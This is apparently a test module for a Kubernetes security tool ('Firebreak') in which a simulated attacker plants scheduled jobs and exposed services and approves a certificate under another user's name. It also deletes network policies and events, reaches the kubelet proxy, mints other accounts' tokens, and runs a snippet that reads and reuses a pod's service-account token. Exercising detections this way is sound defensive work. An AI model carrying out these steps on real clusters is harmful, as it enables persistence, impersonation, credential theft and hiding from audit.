"""What a thief does to the cluster around the pods, and with tokens that are not his."""

import json
from pathlib import Path

from attacks import apply_yaml
from people import Person, signing_request

REFUSALS = 30
# What a program in a pod does that asks the API server something: with the token of the pod, from its address.
ASK = """
import os, ssl, urllib.request
folder = "/var/run/secrets/kubernetes.io/serviceaccount"
token = open(f"{folder}/token").read()
trust = ssl.create_default_context(cafile=f"{folder}/ca.crt")
request = urllib.request.Request(
    f"https://{os.environ['KUBERNETES_SERVICE_HOST']}/api", headers={"Authorization": f"Bearer {token}"}
)
print(urllib.request.urlopen(request, context=trust).status, token)
"""


def stay(thief: Person, folder: Path) -> None:
    """Come back later: by work that is scheduled, a door to the outside, a certificate, a webhook's kind of power."""
    own = thief.namespace
    every_night = ("--schedule=0 3 * * *", "--image=busybox:1.35")
    thief("create", "cronjob", "backup", *every_night, "--", "true")
    thief("create", "service", "nodeport", "door", "--tcp=80")
    thief("create", "configmap", "db-credentials")
    policy = {
        "apiVersion": "admissionregistration.k8s.io/v1",
        "kind": "ValidatingAdmissionPolicy",
        "metadata": {"name": own},
        "spec": {
            "matchConstraints": {
                "resourceRules": [
                    {"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["configmaps"]}
                ]
            },
            "validations": [{"expression": "true"}],
        },
    }
    thief("create", "--filename", "-", stdin=json.dumps(policy))
    thief("delete", "validatingadmissionpolicy", own)
    approve_a_certificate(thief, folder)


def approve_a_certificate(thief: Person, folder: Path) -> None:
    """Get a client certificate of somebody else's name."""
    own = thief.namespace
    thief("create", "--filename", "-", stdin=json.dumps(signing_request(own, "eve", folder)))
    thief("certificate", "approve", own)
    thief("delete", "csr", own)


def undo_defences(thief: Person) -> None:
    """Take away what fences and what tells: policies, events, whole namespaces; say anew who is who."""
    own = thief.namespace
    fence = {
        "apiVersion": "networking.k8s.io/v1",
        "kind": "NetworkPolicy",
        "metadata": {"name": "fence"},
        "spec": {"podSelector": {}},
    }
    trace = {
        "apiVersion": "v1",
        "kind": "Event",
        "metadata": {"name": "trace"},
        "involvedObject": {"kind": "Pod", "name": "shell", "namespace": own},
    }
    for each in (fence, trace):
        thief("create", "--filename", "-", stdin=json.dumps(each))
    thief("delete", "networkpolicy", "fence")
    thief("delete", "event", "trace")
    thief("create", "namespace", f"{own}-lair")
    thief("delete", "namespace", f"{own}-lair", "--wait=false")
    unseen = "apiVersion: v1\nkind: Service\nmetadata: {name: unseen}\nspec: {ports: [{port: 80}]}\n"
    assert '"uid"' in apply_yaml(thief, f"/api/v1/namespaces/{own}/services/unseen", unseen)
    thief("create", "configmap", "aws-auth", "--namespace=kube-system")
    thief("delete", "configmap", "aws-auth", "--namespace=kube-system")


def reach_the_kubelet(thief: Person) -> None:
    """Ask the node's own API which pods it runs."""
    node = thief("get", "nodes", "--output=jsonpath={.items[0].metadata.name}")
    assert thief.namespace in thief("get", "--raw", f"/api/v1/nodes/{node}/proxy/pods")


def use_tokens_of_others(thief: Person, firebreak: str) -> None:
    """Act as Firebreak, beside it, under a trusted name, as who may do nothing, and as a pod from outside of it."""
    theirs = thief("create", "token", "firebreak", "--namespace", firebreak).strip()
    thief("get", "pods", "--token", theirs)
    assert "ValidatingAdmissionPolicy" in thief.refused("label", "pod", "shell", "app=door", "--token", theirs)
    trusted = ("serviceaccount", "sealed-secrets-controller", "--namespace=kube-system")
    thief("create", *trusted)
    thief("delete", *trusted)
    beside = ("deployment", thief.namespace, "--namespace", firebreak)
    thief("create", *beside, "--image=busybox:1.35", "--replicas=0")
    thief("delete", *beside)
    powerless = thief("create", "token", "default").strip()
    thief.refused("get", "secret", *(f"s{number}" for number in range(REFUSALS)), "--token", powerless)
    of = ("deployment/firebreak", "--namespace", firebreak)
    image = thief("get", *of, "--output=jsonpath={.spec.template.spec.containers[0].image}")
    start = ("--image", image, "--image-pull-policy=IfNotPresent", "--restart=Never")
    thief("run", "talker", *start, "--command", "--", "sleep", "1d")
    thief("wait", "--for=condition=Ready", "pod/talker", "--timeout=30s")
    answer, stolen = thief("exec", "talker", "--", "python", "-c", ASK).split()
    assert answer == "200"
    thief("get", "--raw", "/api", "--token", stolen)
